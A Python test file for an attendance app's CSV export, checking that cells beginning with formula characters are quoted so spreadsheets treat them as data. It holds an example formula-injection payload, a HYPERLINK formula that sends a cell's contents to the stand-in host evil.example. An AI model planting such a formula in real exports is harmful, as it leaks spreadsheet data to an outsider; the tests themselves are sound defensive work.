"""CSV exports open in a spreadsheet as data: no cell can start a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from attendance.domain.exports import FORMULA_STARTS, spreadsheet_safe, to_csv

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_would_be_evaluated_are_quoted(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Lee", "O'Brien", "room-1", "", 0.31, None, 3])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


@given(st.text())
def test_no_cell_of_an_export_starts_a_formula(name):
    text = to_csv([{"name": name, "distance": 0.25}], ["name", "distance"])
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert not row["name"].startswith(FORMULA_STARTS)
    assert row["name"].removeprefix("'") == name or row["name"] == name
    assert row["distance"] == "0.25"


def test_the_header_is_the_fields_and_other_keys_are_ignored():
    text = to_csv([{"a": 1, "b": HOSTILE, "extra": "x"}], ["a", "b"])
    assert text.splitlines()[0] == "a,b"
    assert "extra" not in text and "'=HYPERLINK" in text
